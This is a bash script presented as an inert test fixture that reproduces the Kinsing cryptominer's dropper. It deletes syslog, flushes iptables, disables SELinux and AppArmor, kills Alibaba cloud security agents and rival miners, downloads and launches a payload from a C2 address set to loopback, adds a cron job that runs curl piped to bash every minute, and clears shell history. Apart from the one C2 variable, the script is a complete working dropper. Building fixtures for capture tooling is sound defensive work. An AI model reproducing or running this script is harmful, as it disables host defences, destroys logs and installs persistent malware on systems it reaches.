#!/bin/bash
# INERT TEST FIXTURE for firedamp (tests/tools/c2www): mimics Kinsing's d.sh
# dropper (turn off defences, kill rivals and cloud agents, fetch the ELF
# payload, persist with cron). It is served to capture clients and never
# executed; every address in it is loopback (127.0.0.x) or documentation space.
C2=127.0.0.66
ulimit -n 65535
rm -rf /var/log/syslog
chattr -iua /tmp/
chattr -iua /var/tmp/
chattr -i /etc/ld.so.preload
rm -f /etc/ld.so.preload
ufw disable
iptables -F
setenforce 0
echo SELINUX=disabled >/etc/selinux/config
service apparmor stop
systemctl disable apparmor
service aliyun.service stop
systemctl disable aliyun.service
ps aux | grep -v grep | grep 'aegis' | awk '{print $2}' | xargs -I % kill -9 %
ps aux | grep -v grep | grep 'AliYunDun' | awk '{print $2}' | xargs -I % kill -9 %
rm -rf /usr/local/aegis
pkill -f kdevtmpfsi
pkill -f xmrig
pkill -f "stratum+tcp"
ps aux | grep -v grep | grep ':3333' | awk '{print $2}' | xargs -I % kill -9 %

BIN=/tmp/kdevtmpfsi
download() {
    curl -s -o $BIN http://$C2/kinsing || wget -q -O $BIN http://$C2/kinsing
    chmod +x $BIN
}
[ -x $BIN ] || download
nohup $BIN >/dev/null 2>&1 &

crontab -l | sed '/127.0.0.66/d' | crontab -
(crontab -l 2>/dev/null; echo "* * * * * curl -fsSL http://$C2/d.sh | bash > /dev/null 2>&1") | crontab -
history -c
rm -rf ~/.bash_history
